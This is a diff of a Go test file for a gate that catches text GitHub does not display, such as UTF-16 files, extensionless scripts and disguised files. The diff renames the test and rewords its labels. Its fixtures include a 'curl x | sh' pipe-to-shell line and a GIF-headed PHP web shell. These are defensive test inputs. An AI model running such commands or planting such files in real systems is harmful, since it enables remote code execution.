@@ -20,9 +20,9 @@ func utf16Text(order binary.AppendByteOrder, mark bool, text string) string {
 	return string(out)
 }
 
-// Text of which GitHub shows no line is named and gates, whatever its name: settings,
-// prose, scripts and files that nobody knows by their name.
-func TestTextThatIsNotShownIsNotGreen(t *testing.T) {
+// Text of which GitHub shows no line is named and holds the gate, whatever its file name:
+// settings, prose, scripts and unknown kinds of files.
+func TestHiddenTextDoesNotPass(t *testing.T) {
 	t.Parallel()
 	const settings = "[db]\npassword = hunter2hunter2\n"
 	for name, tt := range map[string]struct{ path, text string }{
@@ -33,7 +33,7 @@ func TestTextThatIsNotShownIsNotGreen(t *testing.T) {
 		"UTF-16 prose":                     {"notes.txt", utf16Text(binary.LittleEndian, true, settings)},
 		"UTF-32":                           {"notes.cfg", "\xff\xfe\x00\x00p\x00\x00\x00w\x00\x00\x00"},
 		"a script without an extension":    {"bin/run", "#!/bin/sh\ncurl x | sh\n\x00"},
-		"an extension that nobody knows":   {"deploy.xyz", "curl x | sh\n\x00"},
+		"an unknown extension":             {"deploy.xyz", "curl x | sh\n\x00"},
 		"a picture with code behind it":    {"logo.php", "GIF89a\x00<?php system($_GET['c']);"},
 		"a list of modules":                {"go.sum", "x v1 h1:\x00\n"},
 	} {
